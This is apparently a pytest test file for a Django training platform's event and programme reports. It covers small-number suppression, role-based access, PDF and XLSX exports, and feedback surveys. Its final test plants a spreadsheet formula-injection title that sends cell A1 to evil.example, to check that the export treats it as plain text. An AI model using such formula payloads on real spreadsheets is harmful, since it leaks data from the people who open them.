"""The event report and the programme report: figures, small cells, access, files, queries."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from qorgau.accounts.roles import Role
from qorgau.accounts.tests.factories import OrganisationFactory, RegionFactory, user_with_role
from qorgau.audit.models import AuditEvent
from qorgau.training import reports, surveys
from qorgau.training.certificates import certificate_issue
from qorgau.training.models import (
    ProgrammeTarget,
    Registration,
    Sector,
    Survey,
    SurveyQuestion,
    SurveyResponse,
)
from qorgau.training.reports import RegistrationRow, _suppress, crosstab, people_of
from qorgau.training.tests.factories import (
    AttendanceFactory,
    EventFactory,
    ProgrammeFactory,
    RegistrationFactory,
    SessionFactory,
)

F, M, N = Registration.Gender.FEMALE, Registration.Gender.MALE, Registration.Gender.NOT_STATED


# --- small cells --------------------------------------------------------------------------
def test_small_numbers_are_hidden_with_a_second_cell_so_none_can_be_worked_out():
    grid = [[10, 1, 0, 11], [6, 5, 0, 11], [0, 0, 0, 0]]

    hidden = _suppress(grid)

    assert hidden[0][1]  # the 1
    # ... and one more in its row (else 11 - 10) and its column (else the column total).
    assert sum(hidden[0]) >= 2
    assert sum(row[1] for row in hidden) >= 2
    assert not any(hidden[2])  # zeros are shown as zeros


def test_a_table_without_small_numbers_hides_nothing():
    table = crosstab(
        key="sector",
        title="",
        label="",
        people=[("police", F)] * 3 + [("police", M)] * 4 + [("ngo", F)] * 5,
        labels={"police": "Police", "ngo": "NGO"},
        suppress=True,
    )

    assert not table.has_hidden
    assert [r.label for r in table.rows] == ["Police", "NGO"]  # largest first
    assert [f.value for f in table.total.figures] == [8, 4, 0, 12]


def test_a_table_for_a_reader_who_may_see_small_numbers_hides_nothing():
    people = [("police", F), ("police", M), ("ngo", F)]
    table = crosstab(key="s", title="", label="", people=people, labels={}, suppress=False)
    hidden = crosstab(key="s", title="", label="", people=people, labels={}, suppress=True)

    assert not table.has_hidden
    assert hidden.has_hidden
    assert str(hidden.rows[0].figures[0]) == "< 3"
    assert hidden.total.total.value == 3 and not hidden.total.total.hidden


# --- one person across events -------------------------------------------------------------
def _row(pk: int, email: str = "", name: str = "", phone: str = "", **kw) -> RegistrationRow:
    return RegistrationRow(
        pk=pk,
        event_id=kw.get("event", pk),
        starts_on=kw.get("day", date(2016, 9, pk)),
        gender=kw.get("gender", F),
        sector=kw.get("sector", Sector.SOCIAL),
        region_id=None,
        email_key=email,
        name_key=name,
        phone_key=phone,
    )


def test_a_person_is_the_same_email_or_the_same_name_and_phone_followed_through():
    rows = [
        _row(1, email="a@x.kz", name="aigerim", phone="7701"),
        _row(2, email="a@x.kz", name="aigerim n", phone=""),  # same e-mail as 1
        _row(3, email="other@x.kz", name="aigerim", phone="7701"),  # same name+phone as 1
        _row(4, email="b@x.kz", name="aigerim", phone="7702"),  # same name, other phone
        _row(5, email="", name="aigerim", phone="", sector=Sector.HEALTH),  # name only
    ]

    people = people_of(rows)

    assert [p.registrations for p in people] == [(1, 2, 3), (4,), (5,)]


def test_a_person_counts_with_their_latest_registration():
    rows = [
        _row(1, email="a@x.kz", sector=Sector.EDUCATION, day=date(2011, 10, 4)),
        _row(2, email="a@x.kz", sector=Sector.SOCIAL, gender=M, day=date(2012, 3, 15)),
    ]

    (person,) = people_of(rows)

    assert (person.sector, person.gender) == (Sector.SOCIAL, M)


# --- the event report ---------------------------------------------------------------------
@pytest.fixture
def held(organiser_org, region):
    """A two-day event: 3 sessions, 6 approved people, one pending."""
    event = EventFactory(organiser=organiser_org, region=region, starts_on=date(2016, 9, 13))
    day1 = [
        SessionFactory(event=event),
        SessionFactory(event=event, starts_at="14:00", ends_at="16:00"),
    ]
    day2 = [SessionFactory(event=event, date=event.starts_on + timedelta(days=1))]
    sessions = day1 + day2
    people = []
    for n, (sector, gender, attended) in enumerate(
        [
            (Sector.LAW_ENFORCEMENT, F, 3),
            (Sector.LAW_ENFORCEMENT, M, 3),
            (Sector.LAW_ENFORCEMENT, M, 2),
            (Sector.SOCIAL, F, 3),
            (Sector.SOCIAL, F, 1),
            (Sector.CIVIL_SOCIETY, F, 0),
        ]
    ):
        registration = RegistrationFactory(
            event=event, sector=sector, gender=gender, region=region, email=f"p{n}@example.org"
        )
        for session in sessions[:attended]:
            AttendanceFactory(registration=registration, session=session)
        people.append(registration)
    RegistrationFactory(event=event, status=Registration.Status.PENDING)
    return event, sessions, people


@pytest.mark.django_db
def test_the_event_report_counts_participants_attendance_and_certificates(organiser, held):
    event, _sessions, people = held
    certificate_issue(actor=organiser, registration=people[0])

    report = reports.event_report(user=organiser, event=event)

    assert report.approved == 6
    assert report.statuses[Registration.Status.PENDING] == 1
    sector = {r.label: r.total.value for r in report.tables[0].rows}
    assert sector == {"Law enforcement": 3, "Social protection": 2, "Civil society (NGO)": 1}
    assert [f.value for f in report.gender.total.figures] == [4, 2, 0, 6]
    assert [s.present for s in report.sessions] == [5, 4, 3]
    assert [s.share for s in report.sessions] == [83, 67, 50]
    assert [(d.sessions, d.present) for d in report.days] == [(2, 5), (1, 3)]
    assert report.attended_any == 5 and report.attended_share == 83
    # 80 % of 3 sessions: all three; two of three is 67 %.
    assert report.completed == 3 and report.threshold == 80
    assert report.certificates_issued == 1 and report.certificates_revoked == 0
    assert not report.suppressed and not report.tables[0].has_hidden


@pytest.mark.django_db
def test_the_event_report_has_the_knowledge_gain_of_matched_pairs(organiser, held):
    from qorgau.training.models import Assessment, Attempt

    event, _sessions, people = held
    pre = Assessment.objects.create(event=event, phase=Assessment.Phase.PRE)
    post = Assessment.objects.create(event=event, phase=Assessment.Phase.POST)
    for n, (before, after) in enumerate([(40, 70), (50, 80), (30, 60), (60, None)]):
        for test, score in ((pre, before), (post, after)):
            if score is not None:
                Attempt.objects.create(
                    assessment=test, registration=people[n], form="A", language="ru",
                    key=f"k{test.phase}{n}", submitted_at=timezone.now(), score=score,
                )  # fmt: skip

    knowledge = reports.event_report(user=organiser, event=event).knowledge

    assert knowledge.gain.n_pairs == 3 and knowledge.attrition == 1
    assert knowledge.gain.class_gain == pytest.approx(30 / 60)
    assert knowledge.gain.class_gain_band == "medium"


# --- the programme report -----------------------------------------------------------------
@pytest.fixture
def programme(organiser_org, region):
    programme = ProgrammeFactory(implementer=organiser_org, starts_on=date(2016, 9, 1))
    ProgrammeTarget.objects.create(programme=programme, metric="people_trained", value=4)
    ProgrammeTarget.objects.create(programme=programme, metric="women_share", value=50)
    ProgrammeTarget.objects.create(programme=programme, metric="regions_covered", value=3)
    other = RegionFactory(key="KZ-39", name_en="Kostanay Region")
    first = EventFactory(
        organiser=organiser_org,
        programme=programme,
        region=region,
        city="Pavlodar",
        starts_on=date(2016, 9, 13),
    )
    second = EventFactory(
        organiser=organiser_org,
        programme=programme,
        region=other,
        city="Kostanay",
        starts_on=date(2016, 9, 29),
    )
    for event, people in (
        (first, [("a@x.kz", F), ("b@x.kz", M), ("c@x.kz", F)]),
        (second, [("a@x.kz", F), ("d@x.kz", M), ("e@x.kz", M)]),
    ):
        session = SessionFactory(event=event)
        for email, gender in people:
            registration = RegistrationFactory(
                event=event, email=email, gender=gender, region=event.region
            )
            AttendanceFactory(registration=registration, session=session)
    RegistrationFactory(event=second, email="absent@x.kz")  # approved, never came
    return programme


@pytest.mark.django_db
def test_the_programme_report_counts_each_person_once_against_the_targets(organiser, programme):
    report = reports.programme_report(user=organiser, programme=programme)

    assert report.registrations == 6
    assert report.people == 5  # a@x.kz came to both seminars
    assert report.women == 2 and report.women_share == 40
    assert [(c.city, c.events, c.trained) for c in report.cities] == [
        ("Pavlodar", 1, 3),
        ("Kostanay", 1, 3),
    ]
    targets = {t.metric: (t.target, t.result, t.share, t.met) for t in report.targets}
    assert targets == {
        "people_trained": (4, 5, 125, True),
        "women_share": (50, 40, 80, False),
        "regions_covered": (3, 2, 67, False),
    }
    assert report.events_held == 2


@pytest.mark.django_db
def test_a_donor_officer_sees_small_numbers_hidden_and_the_organiser_sees_them(
    organiser, programme
):
    donor_org = OrganisationFactory(name="US Embassy")
    programme.donors.add(donor_org)
    donor = user_with_role(Role.DONOR_OFFICER, donor_org)

    for_donor = reports.programme_report(user=donor, programme=programme)
    for_organiser = reports.programme_report(user=organiser, programme=programme)

    assert for_donor.suppressed and for_donor.tables[0].has_hidden
    assert not for_organiser.suppressed and not for_organiser.tables[0].has_hidden
    assert for_donor.people == for_organiser.people == 5  # totals are never hidden


# --- pages, files and access --------------------------------------------------------------
def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.django_db
def test_a_donor_officer_reads_the_reports_of_a_funded_programme_without_names(programme):
    donor_org = OrganisationFactory()
    programme.donors.add(donor_org)
    donor = _client(user_with_role(Role.DONOR_OFFICER, donor_org))
    event = programme.events.order_by("starts_on").first()
    names = list(Registration.objects.values_list("full_name", flat=True))

    pages = [
        donor.get(reverse("training:programme_report", args=[programme.pk])),
        donor.get(reverse("training:event_report", args=[event.pk])),
    ]

    for page in pages:
        assert page.status_code == 200
        html = page.content.decode()
        assert not [name for name in names if name in html]
        assert "&lt; 3" in html
    assert donor.get(reverse("training:event_detail", args=[event.pk])).status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize(
    "role", [Role.DONOR_OFFICER, Role.TRAINING_ORGANISER, Role.TRAINER, Role.CASE_MANAGER]
)
def test_reports_of_what_one_may_not_see_are_not_found(programme, role):
    stranger = _client(user_with_role(role, OrganisationFactory()))
    event = programme.events.first()

    assert (
        stranger.get(reverse("training:programme_report", args=[programme.pk])).status_code == 404
    )
    assert stranger.get(reverse("training:event_report", args=[event.pk])).status_code == 404
    assert (
        stranger.get(reverse("training:event_report_file", args=[event.pk, "xlsx"])).status_code
        == 404
    )


@pytest.mark.django_db
def test_the_programme_report_as_a_kazakh_pdf_that_opens(organiser, programme):
    from pypdf import PdfReader

    client = _client(organiser)
    client.cookies["qorgau_language"] = "kk"
    response = client.get(reverse("training:programme_report_file", args=[programme.pk, "pdf"]))

    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert programme.name in text
    assert "Оқытылған адамдар" in text  # "people trained" in Kazakh
    assert "125%" in text  # people trained, in percent of the target
    audit = AuditEvent.objects.get(action="training.report.export")
    assert audit.details["format"] == "pdf" and audit.target_id == str(programme.pk)


@pytest.mark.django_db
def test_the_event_report_as_a_workbook_with_one_sheet_per_table(organiser, held):
    event, _sessions, _people = held
    response = _client(organiser).get(
        reverse("training:event_report_file", args=[event.pk, "xlsx"])
    )

    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [
        "Summary", "Registrations", "By gender", "By sector", "By region", "Sessions", "Days",
        "Knowledge gain",
    ]  # fmt: skip
    sector = {row[0]: row[-1] for row in book["By sector"].iter_rows(min_row=2, values_only=True)}
    assert sector["Law enforcement"] == 3 and sector["Total"] == 6
    sessions = [row[3] for row in book["Sessions"].iter_rows(min_row=2, values_only=True)]
    assert sessions == [5, 4, 3]
    assert AuditEvent.objects.filter(action="training.report.export").count() == 1


@pytest.mark.django_db
def test_the_event_report_pdf_for_a_donor_hides_small_numbers(held, organiser_org):
    from pypdf import PdfReader

    event, _sessions, _people = held
    programme = ProgrammeFactory(implementer=organiser_org)
    event.programme = programme
    event.save()
    donor_org = OrganisationFactory()
    programme.donors.add(donor_org)
    client = _client(user_with_role(Role.DONOR_OFFICER, donor_org))

    response = client.get(reverse("training:event_report_file", args=[event.pk, "pdf"]))

    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "< 3" in text
    assert not [r.full_name for r in Registration.objects.all() if r.full_name in text]
    assert AuditEvent.objects.get(action="training.report.export").details["small_numbers_hidden"]


@pytest.mark.django_db
def test_the_programme_workbook_for_a_donor_writes_hidden_cells_as_text_and_no_names(programme):
    donor_org = OrganisationFactory()
    programme.donors.add(donor_org)
    client = _client(user_with_role(Role.DONOR_OFFICER, donor_org))

    response = client.get(reverse("training:programme_report_file", args=[programme.pk, "xlsx"]))

    book = load_workbook(io.BytesIO(response.content))
    assert {"Summary", "Targets", "By gender", "By sector", "By region", "Cities"} <= set(
        book.sheetnames
    )
    cells = [v for sheet in book for row in sheet.iter_rows(values_only=True) for v in row]
    assert "< 3" in cells
    names = set(Registration.objects.values_list("full_name", flat=True))
    assert not names & {str(v) for v in cells}
    region = {r[0]: r for r in book["By region"].iter_rows(min_row=2, values_only=True)}
    assert region["Total"][-1] == 5  # the grand total is shown


@pytest.mark.django_db
def test_an_unknown_file_format_is_not_found(organiser, held):
    event, _s, _p = held
    url = reverse("training:event_report_file", args=[event.pk, "docx"])

    assert _client(organiser).get(url).status_code == 404


# --- queries ------------------------------------------------------------------------------
@pytest.mark.django_db
def test_the_programme_page_runs_the_same_queries_for_6_or_66_registrations(
    organiser, programme, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = _client(organiser)
    url = reverse("training:programme_detail", args=[programme.pk])
    client.get(url)
    with CaptureQueriesContext(connection) as small:
        assert client.get(url).status_code == 200
    for event in programme.events.all():
        _grow_event(event, list(event.sessions.all()), 30)
    with django_assert_num_queries(len(small.captured_queries)):
        assert client.get(url).status_code == 200


def _grow_event(event, sessions, n: int) -> None:
    for i in range(n):
        registration = RegistrationFactory(
            event=event,
            sector=Sector.HEALTH if i % 2 else Sector.EDUCATION,
            gender=F if i % 3 else M,
        )
        for session in sessions[: 1 + i % len(sessions)]:
            AttendanceFactory(registration=registration, session=session)


@pytest.mark.django_db
def test_the_event_report_page_runs_the_same_queries_for_6_or_46_participants(
    organiser, held, django_assert_num_queries
):
    event, sessions, _people = held
    client = _client(organiser)
    url = reverse("training:event_report", args=[event.pk])
    client.get(url)  # warm the caches of the session and the grants
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    feedback = _survey(event, Survey.Kind.FEEDBACK)
    follow_up = _survey(event, Survey.Kind.FOLLOW_UP)
    approved = event.registrations.filter(status=Registration.Status.APPROVED).order_by("pk")
    _answer_all(feedback, approved[:4])
    with CaptureQueriesContext(connection) as small:
        assert client.get(url).status_code == 200
    _grow_event(event, sessions, 40)
    _answer_all(feedback, list(approved)[4:])
    _answer_all(follow_up, approved[:30])
    assert SurveyResponse.objects.filter(survey__event=event).count() == 46 + 30
    print(f"event report page: {len(small.captured_queries)} queries")
    with django_assert_num_queries(len(small.captured_queries)):
        assert client.get(url).status_code == 200


@pytest.mark.django_db
def test_the_programme_report_page_runs_the_same_queries_for_6_or_66_registrations(
    organiser, programme, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = _client(organiser)
    url = reverse("training:programme_report", args=[programme.pk])
    client.get(url)
    with CaptureQueriesContext(connection) as small:
        assert client.get(url).status_code == 200
    for event in programme.events.all():
        _grow_event(event, list(event.sessions.all()), 30)
    print(f"programme report page: {len(small.captured_queries)} queries")
    with django_assert_num_queries(len(small.captured_queries)):
        assert client.get(url).status_code == 200


# --- feedback -----------------------------------------------------------------------------
def _survey(event, kind: str, *, anonymous: bool = True) -> Survey:
    survey = surveys.survey_prepare(actor=None, event=event, kind=kind)
    Survey.objects.filter(pk=survey.pk).update(anonymous=anonymous)
    survey.refresh_from_db()
    return survey


def _answer_all(survey: Survey, registrations, text: str = "") -> None:
    """Each registration answers every scale question with 1 + (its index mod 5)."""
    questions = list(survey.questions.all())
    for index, registration in enumerate(registrations):
        answers = {}
        for question in questions:
            if question.kind == SurveyQuestion.Kind.LIKERT:
                answers[f"q{question.pk}"] = str(1 + index % 5)
            elif text:
                answers[f"q{question.pk}"] = f"{text} {index}"
        surveys.survey_submit(
            survey=survey,
            registration=registration,
            raw_answers=answers,
            language="en",
            today=survey.opens_on,
        )


def _likert_means(survey: Survey) -> list[float]:
    """The means computed here from the stored answers, not by the report."""
    answers = list(SurveyResponse.objects.filter(survey=survey).values_list("answers", flat=True))
    return [
        sum(a[str(q.pk)] for a in answers) / len(answers)
        for q in survey.questions.filter(kind=SurveyQuestion.Kind.LIKERT).order_by("position")
    ]


@pytest.mark.django_db
def test_the_event_report_has_the_feedback_means_distribution_and_response_rate(organiser, held):
    event, _sessions, people = held
    survey = _survey(event, Survey.Kind.FEEDBACK)
    _answer_all(survey, people[:4], text="Useful")

    report = reports.event_report(user=organiser, event=event)

    (feedback,) = report.feedback  # the follow-up survey has no answers: not in the report
    assert feedback.results.respondents == 4 and feedback.response_rate == 67  # 4 of 6
    likert = [line.result for line in feedback.likert]
    assert [q.mean for q in likert] == pytest.approx(_likert_means(survey))
    assert likert[0].counts == {1: 1, 2: 1, 3: 1, 4: 1, 5: 0}
    assert feedback.open_answers and "Useful 0" in feedback.open[0].result.answers
    page = _client(organiser).get(reverse("training:event_report", args=[event.pk]))
    html = page.content.decode()
    assert 'id="feedback-feedback"' in html and "67%" in html
    assert "<title>" in html.split('id="feedback"')[1]  # the survey's SVG chart
    assert "Useful 3" in html


@pytest.mark.django_db
def test_the_follow_up_survey_joins_the_report_once_answered(organiser, held):
    event, _sessions, people = held
    _survey(event, Survey.Kind.FEEDBACK)
    follow_up = _survey(event, Survey.Kind.FOLLOW_UP)
    _answer_all(follow_up, people[:3])

    report = reports.event_report(user=organiser, event=event)

    assert [f.survey.kind for f in report.feedback] == ["feedback", "follow_up"]
    assert report.feedback[1].response_rate == 50


@pytest.mark.django_db
def test_an_anonymous_survey_with_2_answers_is_hidden_in_the_report(organiser, held):
    event, _sessions, people = held
    survey = _survey(event, Survey.Kind.FEEDBACK, anonymous=True)
    _answer_all(survey, people[:2], text="Secret")

    report = reports.event_report(user=organiser, event=event)
    html = _client(organiser).get(reverse("training:event_report", args=[event.pk])).content
    book = load_workbook(
        io.BytesIO(
            _client(organiser)
            .get(reverse("training:event_report_file", args=[event.pk, "xlsx"]))
            .content
        )
    )

    assert report.feedback[0].hidden
    assert all(line.result.n == 0 for line in report.feedback[0].questions)
    assert b"feedback-hidden" in html and b"Secret" not in html and b"feedback-mean" not in html
    cells = [v for row in book["Feedback survey"].iter_rows(values_only=True) for v in row]
    assert not [v for v in cells if isinstance(v, str) and "Secret" in v]


@pytest.mark.django_db
def test_a_donor_officer_sees_the_feedback_figures_but_no_open_answers(organiser, held):
    event, _sessions, people = held
    programme = ProgrammeFactory(implementer=event.organiser)
    event.programme = programme
    event.save()
    donor_org = OrganisationFactory()
    programme.donors.add(donor_org)
    donor = _client(user_with_role(Role.DONOR_OFFICER, donor_org))
    survey = _survey(event, Survey.Kind.FEEDBACK, anonymous=False)
    _answer_all(survey, people[:5], text="Open remark")

    page = donor.get(reverse("training:event_report", args=[event.pk])).content.decode()
    book = load_workbook(
        io.BytesIO(
            donor.get(reverse("training:event_report_file", args=[event.pk, "xlsx"])).content
        )
    )
    organiser_page = _client(organiser).get(reverse("training:event_report", args=[event.pk]))

    assert "Open remark" not in page and "5 open answers" in page
    assert "feedback-mean" in page  # the scale figures are shown
    cells = [str(v) for row in book["Feedback survey"].iter_rows(values_only=True) for v in row]
    assert not [v for v in cells if "Open remark" in v]
    assert "Open remark 4" in organiser_page.content.decode()


@pytest.mark.django_db
def test_the_event_report_pdf_in_kazakh_has_the_feedback_section(organiser, held):
    from pypdf import PdfReader

    event, _sessions, people = held
    _answer_all(_survey(event, Survey.Kind.FEEDBACK), people[:4])
    client = _client(organiser)
    client.cookies["qorgau_language"] = "kk"

    response = client.get(reverse("training:event_report_file", args=[event.pk, "pdf"]))

    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "Қатысушылардың пікірі" in text  # "participants' feedback" in Kazakh
    assert "67%" in text


@pytest.mark.django_db
def test_the_programme_page_counts_each_person_once_like_the_report(organiser, programme):
    report = reports.programme_report(user=organiser, programme=programme)
    response = _client(organiser).get(reverse("training:programme_detail", args=[programme.pk]))

    html = response.content.decode()
    results = html.split('id="programme-results"')[1].split("</ul>")[0]
    assert f"<strong>{report.people}</strong>" in results and report.people == 5
    assert f"<strong>{report.women_share}%</strong>" in results


@pytest.mark.django_db
def test_a_title_that_looks_like_a_formula_is_written_as_text(organiser, held):
    event, _sessions, _people = held
    title = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    event.title = title
    event.save(update_fields=["title"])

    response = _client(organiser).get(
        reverse("training:event_report_file", args=[event.pk, "xlsx"])
    )

    summary = load_workbook(io.BytesIO(response.content))["Summary"]
    cell = next(row[1] for row in summary.iter_rows(min_row=2) if row[0].value == "Event")
    assert cell.value == title and cell.data_type == "s"
